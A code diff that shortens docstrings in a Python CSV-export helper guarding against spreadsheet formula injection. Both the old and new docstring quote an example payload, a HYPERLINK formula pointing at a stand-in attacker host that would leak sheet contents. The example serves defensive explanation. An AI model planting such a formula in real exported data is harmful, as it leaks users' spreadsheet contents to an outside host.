@@ -1,11 +1,9 @@
-"""CSV text for every table the project writes (evaluate's metrics, training metrics, bulk summaries), and
-values made strict JSON for the JSON copies of tables and model cards.
+"""CSV text for every table the project writes, and values made strict JSON for tables and model cards.
 
-Cells are neutralised against formula injection: a spreadsheet runs a cell that starts with ``=``, ``+``,
-``-``, ``@``, a tab or a carriage return as a formula, so a class or file named
-``=HYPERLINK("http://evil.example/?x="&A1,"click")`` would become a live link that leaks the sheet. Such a
-text cell gets a leading ``'`` (OWASP's advice), which spreadsheets show as text. Numbers stay numbers: a
-negative metric like ``-0.5`` is left as it is.
+Cells are neutralised against formula injection: a spreadsheet runs a cell that starts with ``=``, ``+``, ``-``,
+``@``, a tab or a carriage return as a formula, so a class named ``=HYPERLINK("http://evil.example/?x="&A1,"c")``
+would become a live link that leaks the sheet. Such a text cell gets a leading ``'`` (OWASP's advice); numbers
+such as ``-0.5`` stay numbers.
 """
 
 from __future__ import annotations
@@ -33,7 +31,7 @@ def safe_cell(value: Any) -> Any:
 
 
 def csv_text(header: Sequence[Any], rows: Iterable[Iterable[Any]]) -> str:
-    """A CSV document (``\\n`` line ends) of ``header`` and ``rows``, every cell through :func:`safe_cell`."""
+    """A CSV document (``\\n`` line ends), every cell through :func:`safe_cell`."""
     buffer = io.StringIO()
     writer = csv.writer(buffer, lineterminator="\n")
     writer.writerow([safe_cell(v) for v in header])
@@ -42,7 +40,7 @@ def csv_text(header: Sequence[Any], rows: Iterable[Iterable[Any]]) -> str:
 
 
 def dict_csv_text(columns: Sequence[str], rows: Iterable[dict[str, Any]]) -> str:
-    """:func:`csv_text` of mappings: one column per key of ``columns`` (missing keys give empty cells)."""
+    """:func:`csv_text` of mappings (missing keys give empty cells)."""
     return csv_text(columns, ([row.get(k, "") for k in columns] for row in rows))
 
 
